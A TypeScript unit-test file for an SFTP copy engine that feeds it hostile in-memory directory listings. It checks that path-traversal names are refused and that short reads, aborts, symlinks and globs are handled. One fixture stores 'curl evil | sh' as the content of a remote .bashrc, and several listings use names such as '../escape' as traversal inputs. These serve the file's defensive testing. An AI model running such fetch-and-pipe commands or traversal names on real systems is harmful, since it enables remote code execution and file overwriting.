/**
 * The cp engine against in-memory "remote" file systems: hostile directory listings, short reads,
 * aborts, and the naming rules. The real-server behaviour is in test/e2e/cp.test.ts.
 */
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { JumpgateError } from "../../../src/errors.js";
import { type CopyOptions, copy, safeName } from "../../../src/transfer/copy.js";
import type { TransferEvent } from "../../../src/transfer/progress.js";
import type {
  DirEntry,
  FileInfo,
  FileSystem,
  ReadHandle,
  WriteHandle,
} from "../../../src/transfer/sftp-fs.js";
import { currentUmask } from "../../../src/util/umask.js";

interface Node {
  type: "file" | "dir" | "symlink";
  data?: Buffer;
  target?: string;
  mode: number;
  mtime: number;
}

/** A read-only in-memory server whose listings may be hostile. */
class MemFs implements FileSystem {
  readonly prefix = "mem:";
  readonly maxRequest = 1000;
  closed = false;
  constructor(
    readonly nodes: Map<string, Node>,
    readonly listings: Map<string, string[]> = new Map(),
    readonly hooks: { shortReads?: boolean; onRead?: () => Promise<void> } = {},
  ) {}
  private info(n: Node): FileInfo {
    return { type: n.type, size: n.data?.length ?? 0, mode: n.mode, atime: n.mtime, mtime: n.mtime };
  }
  async lstat(path: string) {
    const n = this.nodes.get(path);
    return n ? this.info(n) : null;
  }
  async stat(path: string) {
    let n = this.nodes.get(path);
    if (n?.type === "symlink") n = this.nodes.get(n.target as string);
    return n ? this.info(n) : null;
  }
  async readdir(path: string): Promise<DirEntry[]> {
    const names =
      this.listings.get(path) ??
      [...this.nodes.keys()]
        .filter((k) => k.startsWith(`${path}/`) && !k.slice(path.length + 1).includes("/"))
        .map((k) => k.slice(path.length + 1));
    return names.map((name) => {
      const n = this.nodes.get(`${path}/${name}`) ?? {
        type: "file",
        data: Buffer.from("evil"),
        mode: 0o644,
        mtime: 0,
      };
      return { name, info: this.info(n as Node) };
    });
  }
  async openRead(path: string): Promise<ReadHandle> {
    const n = this.nodes.get(path) as Node;
    const data =
      (n.type === "symlink" ? this.nodes.get(n.target as string)?.data : n.data) ?? Buffer.alloc(0);
    return {
      size: data.length,
      mode: n.mode,
      atime: n.mtime,
      mtime: n.mtime,
      read: async (pos, len) => {
        await this.hooks.onRead?.();
        const take = this.hooks.shortReads ? Math.max(1, Math.floor(len / 3)) : len;
        return data.subarray(pos, Math.min(data.length, pos + take));
      },
      recycle: () => {},
      close: async () => {},
    };
  }
  mkdir(): Promise<void> {
    throw new Error("read-only");
  }
  openWrite(): Promise<WriteHandle> {
    throw new Error("read-only");
  }
  rename(): Promise<void> {
    throw new Error("read-only");
  }
  async unlink(): Promise<void> {}
  async setAttrs(): Promise<void> {}
  async expandHome(path: string) {
    return path;
  }
  close() {
    this.closed = true;
  }
}

const host = { user: null, host: "mem", port: null };
const file = (text: string | Buffer, mode = 0o644): Node => ({
  type: "file",
  data: Buffer.from(text),
  mode,
  mtime: 1_000_000_000,
});
const dirNode = (mode = 0o755): Node => ({ type: "dir", mode, mtime: 1_000_000_000 });

let out: string;
beforeEach(() => {
  out = mkdtempSync(join(tmpdir(), "jg-copy-unit-"));
});
afterEach(() => rmSync(out, { recursive: true, force: true }));

function run(fs: MemFs, sources: string[], extra: Partial<CopyOptions> = {}) {
  const errors: JumpgateError[] = [];
  const events: TransferEvent[] = [];
  return copy({
    sources: sources.map((path) => ({ kind: "remote" as const, host, path })),
    target: { kind: "local", path: out },
    connect: () => Promise.reject(new Error("not used")),
    remoteFs: async () => fs,
    onError: (e) => errors.push(e),
    onProgress: (e) => events.push(e),
    ...extra,
  }).then((result) => ({ result, errors, events }));
}

describe("copy engine", () => {
  it("refuses names from a listing that are not one plain component; writes only the safe ones", async () => {
    const fs = new MemFs(
      new Map([
        ["/src", dirNode()],
        ["/src/ok", file("fine")],
      ]),
      new Map([["/src", ["../escape", "a/b", "..", ".", "", "nul\0x", "ok"]]]),
    );
    const { result, errors } = await run(fs, ["/src"], { recursive: true });
    expect(errors.map((e) => e.code)).toEqual(Array(6).fill("JG_CP_UNSAFE_NAME"));
    expect(result.files).toBe(1);
    expect(readdirSync(out)).toEqual(["src"]);
    expect(readdirSync(join(out, "src"))).toEqual(["ok"]);
    expect(existsSync(join(out, "escape"))).toBe(false);
    expect(existsSync(join(tmpdir(), "escape"))).toBe(false);
    expect(fs.closed).toBe(true);
  });

  it("reassembles short reads into the exact content, across many requests", async () => {
    const data = Buffer.from(Array.from({ length: 10_007 }, (_, i) => i % 251));
    const fs = new MemFs(new Map([["/f.bin", file(data)]]), new Map(), { shortReads: true });
    const { result, events } = await run(fs, ["/f.bin"]);
    expect(result.errors).toEqual([]);
    expect(readFileSync(join(out, "f.bin")).equals(data)).toBe(true);
    const bytes = events
      .filter((e) => e.kind === "bytes")
      .reduce((n, e) => n + (e.kind === "bytes" ? e.n : 0), 0);
    expect(bytes).toBe(data.length);
    expect(events[0]).toMatchObject({ kind: "start", op: "cp", totalBytes: data.length, totalFiles: 1 });
    expect(events.at(-1)?.kind).toBe("done");
  });

  it("an abort in the middle leaves neither the final name nor a temporary", async () => {
    const abort = new AbortController();
    let reads = 0;
    const fs = new MemFs(new Map([["/big", file(Buffer.alloc(100_000, 7))]]), new Map(), {
      onRead: async () => {
        if (++reads === 20) abort.abort();
      },
    });
    writeFileSync(join(out, "big"), "old content");
    await expect(run(fs, ["/big"], { signal: abort.signal, requestsInFlight: 2 })).rejects.toMatchObject({
      code: "JG_CP_INTERRUPTED",
    });
    // The old file is untouched and no temporary is left.
    expect(readdirSync(out)).toEqual(["big"]);
    expect(readFileSync(join(out, "big"), "utf8")).toBe("old content");
  });

  it("follows symlinks named on the command line and to files in trees; skips links to directories", async () => {
    const fs = new MemFs(
      new Map<string, Node>([
        ["/t", dirNode()],
        ["/t/real", file("real")],
        ["/t/sub", dirNode()],
        ["/t/sub/x", file("x")],
        ["/t/l-file", { type: "symlink", target: "/t/real", mode: 0o777, mtime: 0 }],
        ["/t/l-dir", { type: "symlink", target: "/t/sub", mode: 0o777, mtime: 0 }],
        ["/t/l-dangling", { type: "symlink", target: "/nowhere", mode: 0o777, mtime: 0 }],
      ]),
    );
    const { errors } = await run(fs, ["/t"], { recursive: true });
    expect(errors.map((e) => e.code).sort()).toEqual(["JG_CP_NOT_FOUND", "JG_CP_NOT_REGULAR"]);
    expect(readdirSync(join(out, "t")).sort()).toEqual(["l-file", "real", "sub"]);
    expect(readFileSync(join(out, "t/l-file"), "utf8")).toBe("real");
  });

  it("a missing source is reported and nothing is written; the other sources still are", async () => {
    const fs = new MemFs(new Map([["/a", file("a")]]));
    const { result, errors } = await run(fs, ["/missing", "/a"]);
    expect(errors.map((e) => e.code)).toEqual(["JG_CP_NOT_FOUND"]);
    expect(result.files).toBe(1);
    expect(readdirSync(out)).toEqual(["a"]);
  });

  it("a directory source without -r is refused", async () => {
    const fs = new MemFs(new Map([["/d", dirNode()]]));
    const { errors } = await run(fs, ["/d"]);
    expect(errors.map((e) => e.code)).toEqual(["JG_CP_IS_DIRECTORY"]);
    expect(readdirSync(out)).toEqual([]);
  });

  it("'..' as a source's last component is refused rather than written above the target", async () => {
    const fs = new MemFs(new Map([["/d", dirNode()]]));
    const { errors } = await run(fs, ["/d/sub/../.."], { recursive: true });
    expect(errors.map((e) => e.code)).toEqual(["JG_CP_PATH"]);
  });

  it("remote globs are expanded from listings; hidden names need an explicit dot", async () => {
    const fs = new MemFs(
      new Map([
        ["/logs", dirNode()],
        ["/logs/a.log", file("a")],
        ["/logs/b.log", file("b")],
        ["/logs/.h.log", file("h")],
        ["/logs/c.txt", file("c")],
      ]),
    );
    const { errors } = await run(fs, ["/logs/*.log"]);
    expect(errors).toEqual([]);
    expect(readdirSync(out).sort()).toEqual(["a.log", "b.log"]);
  });

  it("a glob never matches a listed '..', '/..' or 'a/b': the target keeps its own files", async () => {
    const fs = new MemFs(
      new Map([
        ["/logs", dirNode()],
        ["/logs/app", file("log")],
        ["/", dirNode()],
        ["/.bashrc", file("curl evil | sh")],
      ]),
      new Map([["/logs", ["app", "/..", "..", "a/b"]]]),
    );
    writeFileSync(join(out, ".bashrc"), "mine");
    const { errors } = await run(fs, ["/logs/[!.]*"], { recursive: true });
    expect(errors.map((e) => e.code)).toEqual([
      "JG_CP_UNSAFE_NAME",
      "JG_CP_UNSAFE_NAME",
      "JG_CP_UNSAFE_NAME",
    ]);
    expect(readFileSync(join(out, ".bashrc"), "utf8")).toBe("mine");
    expect(readdirSync(out).sort()).toEqual([".bashrc", "app"]);
  });

  it("-r without -p: an existing directory keeps its mode; new ones get the source's bits under the umask", async () => {
    const umask = currentUmask();
    const fs = new MemFs(
      new Map([
        ["/proj", dirNode(0o777)],
        ["/proj/sub", dirNode(0o1777)],
        ["/proj/ro", dirNode(0o555)],
        ["/proj/ro/f", file("f")],
      ]),
    );
    mkdirSync(join(out, "proj"), { mode: 0o700 });
    const { errors } = await run(fs, ["/proj"], { recursive: true });
    expect(errors).toEqual([]);
    expect(statSync(join(out, "proj")).mode & 0o7777).toBe(0o700);
    expect(statSync(join(out, "proj/sub")).mode & 0o7777).toBe(0o1777 & ~umask);
    expect(statSync(join(out, "proj/ro")).mode & 0o7777).toBe(0o555 & ~umask);
    expect(readFileSync(join(out, "proj/ro/f"), "utf8")).toBe("f");
  });

  it("local paths must be absolute (the CLI resolves them)", async () => {
    await expect(
      copy({
        sources: [{ kind: "local", path: "relative" }],
        target: { kind: "local", path: out },
        connect: () => Promise.reject(new Error("not used")),
      }),
    ).rejects.toMatchObject({ code: "JG_INTERNAL" });
  });
});

describe("safeName", () => {
  it.each([
    ["a", true],
    ["a b", true],
    ["ünï", true],
    [".hidden", true],
    ["", false],
    [".", false],
    ["..", false],
    ["a/b", false],
    ["/", false],
    ["a\0b", false],
  ])("%j -> %s", (name, ok) => {
    expect(safeName(name)).toBe(ok);
  });
});

describe("errors", () => {
  it("maps local and SFTP failures onto codes that name the path", async () => {
    const { ioError } = await import("../../../src/transfer/sftp-fs.js");
    const cases: [unknown, string][] = [
      [{ code: "ENOENT", message: "x" }, "JG_CP_NOT_FOUND"],
      [{ code: 2, message: "No such file" }, "JG_CP_NOT_FOUND"],
      [{ code: "EACCES", message: "x" }, "JG_CP_PERMISSION"],
      [{ code: 3, message: "Permission denied" }, "JG_CP_PERMISSION"],
      [{ code: "ENOSPC", message: "x" }, "JG_CP_NO_SPACE"],
      [{ code: "EDQUOT", message: "x" }, "JG_CP_NO_SPACE"],
      [{ code: "ENOTDIR", message: "x" }, "JG_CP_NOT_DIRECTORY"],
      [{ code: 4, message: "Failure" }, "JG_CP_IO"],
    ];
    for (const [error, code] of cases) {
      const e = ioError("write", "host:/srv/f", error);
      expect(e.code).toBe(code);
      expect(e.message).toContain("host:/srv/f");
    }
  });

  it("a source that shrinks while copied fails with JG_CP_IO and leaves nothing", async () => {
    const fs = new MemFs(new Map([["/f", file("0123456789".repeat(300))]]));
    const real = fs.openRead.bind(fs);
    fs.openRead = async (path: string) => {
      const h = await real(path);
      return {
        ...h,
        read: async (pos: number, len: number) => (pos >= 1000 ? Buffer.alloc(0) : h.read(pos, len)),
      };
    };
    const { errors } = await run(fs, ["/f"]);
    expect(errors.map((e) => e.code)).toEqual(["JG_CP_IO"]);
    expect(errors[0]?.message).toContain("shrank");
    expect(readdirSync(out)).toEqual([]);
  });
});
